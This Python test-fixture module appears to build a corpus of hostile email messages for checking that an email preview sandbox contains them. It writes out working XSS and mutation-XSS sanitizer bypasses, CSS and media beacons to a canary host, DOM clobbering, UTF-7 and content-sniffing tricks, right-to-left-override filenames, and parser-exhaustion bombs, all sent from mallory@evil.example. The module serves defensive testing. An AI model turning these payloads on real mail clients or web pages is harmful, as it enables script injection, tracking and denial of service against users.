"""Messages that try to get out of their preview, by what they try; each names a server that must never be asked."""

from __future__ import annotations

import base64
from collections.abc import Mapping

MARK = "escaped-from-its-frame"
"""What a script of a message would write into the page's title."""


def corpus(url: str) -> Mapping[str, bytes]:
    """Return the messages.

    :param url: of a server that counts who comes.
    """
    script = f"document.title='{MARK}';top.document.title='{MARK}';fetch('{url}/fetch')"
    pages = _running(url, script) | _loading(url, script) | _confusing(url, script) | _changing(url, script)
    return {name: _html(page) for name, page in pages.items()} | _mails(url, script)


def _running(url: str, script: str) -> dict[str, str]:
    """HTML that wants to run something."""
    return {
        "script": f"<script>{script}</script><script src='{url}/s.js'></script>",
        "handlers": f'<img src=x onerror="{script}"><body onload="{script}"><p onclick="{script}" autofocus>hello',
        "svg": f"<svg onload=\"{script}\"><image href='{url}/i.svg'/><script>{script}</script>"
        f"<foreignObject><iframe src='{url}/f'></iframe></foreignObject><use href='{url}/u.svg#x'/></svg>",
        "math": f"<math><mtext><table><mglyph><style><img src='{url}/m' onerror=\"{script}\"></style></table></math>",
        "noscript": f"<noscript><p title=\"</noscript><img src='{url}/4' onerror=&quot;{script}&quot;>\">",
        "links": f"<a href='{url}/link' target=_top>click</a> <a href='javascript:{script}' target=_parent>click</a>"
        f"<a href='{url}/ping' ping='{url}/pong' download>click</a><area href='{url}/area' target=_blank>",
    }


def _loading(url: str, script: str) -> dict[str, str]:
    """HTML that wants to load or send something."""
    return {
        "base": f"<base href='{url}/'><img src='relative.png'><a href='go'>go</a><link rel=stylesheet href='s.css'>",
        "refresh": f"<meta http-equiv=refresh content='0;url={url}/refresh'>"
        "<meta http-equiv='Content-Security-Policy' content='default-src *'>",
        "form": f"<form action='{url}/form' id=f><input name=csrf><button>Approve</button></form>"
        "<button form=decide>Approve</button><input type=submit formaction='/held'>",
        "css": f"<style>@import url('{url}/a.css'); body {{ background: url({url}/b.png) }}</style>"
        f'<p style="background:url(\'{url}/c.png\')">a<p style="background-image:\\75rl({url}/d.png)">b'
        f"<p style='list-style:url({url}/e)'>c<p style='content:image-set(\"{url}/f\" 1x)'>d"
        "<p style='position:fixed;inset:0;z-index:9999'>over everything",
        "prefetch": f"<link rel=preconnect href='{url}'><link rel=dns-prefetch href='//prefetch.example'>"
        f"<link rel=prefetch href='{url}/p'><link rel=preload as=image href='{url}/q'>"
        f"<link rel=prerender href='{url}/r'><link rel=modulepreload href='{url}/m.js'>",
        "media": f"<video src='{url}/v' poster='{url}/w' autoplay></video><audio src='{url}/x' autoplay></audio>"
        f"<picture><source srcset='{url}/y'><img srcset='{url}/z 1x'></picture><track src='{url}/t'>"
        f"<object data='{url}/o'></object><embed src='{url}/e'><iframe srcdoc='<script>{script}</script>'></iframe>"
        f"<input type=image src='{url}/n'><table background='{url}/k'><tr><td background='{url}/l'>x</table>",
    }


def _confusing(url: str, script: str) -> dict[str, str]:
    """HTML that is read in two ways, or is too much."""
    return {
        "breakout": "</p></div></main></body></html></iframe></textarea></title></style>--></script>"
        f"<script>{script}</script><template><script>{script}</script></template><plaintext>",
        "unclosed": f"<p>begin<a href=\"{url}/' onmouseover='{script}'<b <i <!-- <script>{script}",
        "comments": f"<!--><img src='{url}/1'>--><!---!><img src='{url}/2'><![CDATA[<script>{script}</script>]]>",
        "entities": f"&lt;script&gt;{script}&lt;/script&gt; &#x3c;img src={url}/3&#x3e; &#99999999999; &#x202e;txt.exe",
        "deep": "<div>" * 30_000 + "bottom",
        "clobber": "<p id=main name=decide>clobber<a id=csrf name=csrf href='x'>x</a><form id=approve></form>",
    }


def _changing(url: str, script: str) -> dict[str, str]:
    """HTML that is harmless where it is read first, and becomes something else where what was written is read again."""
    image = f"<img src='{url}/x' onerror=&quot;{script}&quot;>"
    hidden = image.replace("<", "&lt;").replace(">", "&gt;")
    return {
        "mutation-style-in-svg": f'<svg></p><style><a title="</style>{image}">seen</svg>',
        "mutation-style-in-math": "<math><mtext><table><mglyph><style><!--</style>"
        f'<img title="--&gt;{hidden}"></table></mtext>seen</math>',
        "mutation-forms": "<form><math><mtext></form><form><mglyph><style></math>"
        f"{image}</style></mglyph></form>seen",
        "mutation-annotation": "<math><annotation-xml encoding='text/html'><style><!--</style>"
        f'<p title="--&gt;{hidden}">seen</annotation-xml></math>',
        "mutation-desc": f'seen<svg><desc><template><style></template></desc><title><p title="</title>{image}"></svg>',
        "mutation-cdata": f"<svg><![CDATA[<p title=']]>{image}'>seen]]></svg>",
        "mutation-noscript": f'<noscript><style></noscript>{image}</style><p title="</noscript>{image}">seen',
        "mutation-template": "<template><template><style><!--</style></template>"
        f'<p title="--></template></template>{image}">seen</template>seen',
        "mutation-select": f'<select><template><style></select>{image}</style></template><option title="{hidden}">seen',
        "mutation-table": f"<table><svg><g><title><table><tr><td><style></table>{image}</style></title></svg>seen",
        "mutation-raw": f'<xmp><p title="</xmp>{image}">seen</xmp><noembed><p title="</noembed>{image}">',
        "mutation-names": f'<svg/onload="{script}"/><p\x0ctitle=a\x0conclick="{script}"/title="{hidden}">seen'
        f"<x-svg><x-math><x-style>{image}",
        "mutation-copies": "<div>"
        + "".join(f"<font size={n}>" for n in range(3_000))
        + "</div><div>seen" * 3_000,
    }


def _mails(url: str, script: str) -> dict[str, bytes]:
    """Whole messages."""
    return {
        "headers": _mail(
            f"<script>{script}</script>\"'><img src={url}/5 onerror={script}>", b"plain text\n", "text/plain"
        ),
        "direction": _mail(
            "=?utf-8?b?" + base64.b64encode("pay \u202e\u2066txt.exe".encode()).decode() + "?=",
            "left \u202eright\u202c \u2067isolate\u2069 a" + "\u0301" * 500 + "\u200b\ufeff end\n",
            "text/plain; charset=utf-8",
        ),
        "text": _mail("text", f"<script>{script}</script>\n</pre></iframe><img src={url}/6>\n", "text/plain"),
        "huge": _html("<p>" + f"<a href='{url}/7'>x</a><img src='{url}/8'>" * 100_000),
        "long-line": _mail("long", "x" * 2_000_000, "text/plain"),
        "broken": b"Content-Type: multipart/mixed; boundary=b\n\n--b\nContent-Type: text/html\n"
        + f"Content-Transfer-Encoding: base64\n\n!!!{script}\n--b\n--b--\n--b\n".encode(),
        "no-header": f"\n\n<script>{script}</script>".encode(),
        "nested": _nested(_html(f"<script>{script}</script><img src='{url}/9'><p>inside")),
        "names": _names(f'"><script>{script}</script>.html', f"<img src={url}/10>\u202efdp.exe"),
        "alternative": _alternative(f"<script>{script}</script>hidden offer", "harmless"),
        "bomb": b"Content-Type: multipart/mixed; boundary=a\n\n" + b"--a\n\n" * 5_000,
        "charset": b"Content-Type: text/html; charset=utf-7\n\n+ADw-script+AD4-"
        + script.encode()
        + b"+ADw-/script+AD4-",
        "sniffed": b"Content-Type: text/plain\n\n<!DOCTYPE html><html><script>"
        + script.encode()
        + b"</script>",
    }


def _mail(subject: str, body: str | bytes, kind: str) -> bytes:
    head = f"From: Mallory <mallory@evil.example>\nTo: contact@masociete.example\nSubject: {subject}\n"
    text = body if isinstance(body, bytes) else body.encode()
    return f"{head}MIME-Version: 1.0\nContent-Type: {kind}\n\n".encode() + text


def _html(body: str) -> bytes:
    return _mail("hello", body, "text/html; charset=utf-8")


def _nested(inner: bytes) -> bytes:
    boundary = b"----=_nested"
    return (
        b"From: mallory@evil.example\nSubject: forwarded\nMIME-Version: 1.0\n"
        b'Content-Type: multipart/mixed; boundary="' + boundary + b'"\n\n--' + boundary
        + b"\nContent-Type: text/plain\n\nsee below\n--" + boundary
        + b"\nContent-Type: message/rfc822\n\n" + inner + b"\n--" + boundary + b"--\n"
    )  # fmt: skip


def _names(first: str, second: str) -> bytes:
    parts = "".join(
        f"--n\nContent-Type: text/html\nContent-Disposition: attachment; filename*=utf-8''{_percent(name)}\n\nx\n"
        for name in (first, second)
    )
    return f"Subject: files\nMIME-Version: 1.0\nContent-Type: multipart/mixed; boundary=n\n\n{parts}--n--\n".encode()


def _percent(text: str) -> str:
    return "".join(f"%{octet:02X}" for octet in text.encode())


def _alternative(html: str, plain: str) -> bytes:
    return (
        "Subject: two faces\nMIME-Version: 1.0\nContent-Type: multipart/alternative; boundary=m\n\n"
        f"--m\nContent-Type: text/plain\n\n{plain}\n--m\nContent-Type: text/html\n\n{html}\n--m--\n"
    ).encode()
